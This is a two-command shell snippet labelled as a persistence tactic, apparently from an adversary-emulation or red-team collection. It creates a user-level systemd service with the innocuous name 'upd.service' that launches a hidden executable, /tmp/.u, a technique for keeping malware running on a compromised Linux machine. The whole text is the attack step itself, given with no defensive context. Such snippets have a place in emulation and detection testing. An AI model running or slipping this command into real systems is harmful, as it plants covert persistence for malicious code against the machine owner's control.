# tactic: persistence
# install a user systemd service
mkdir -p $HOME/.config/systemd/user; printf "[Service]\nExecStart=/tmp/.u\n" > $HOME/.config/systemd/user/upd.service
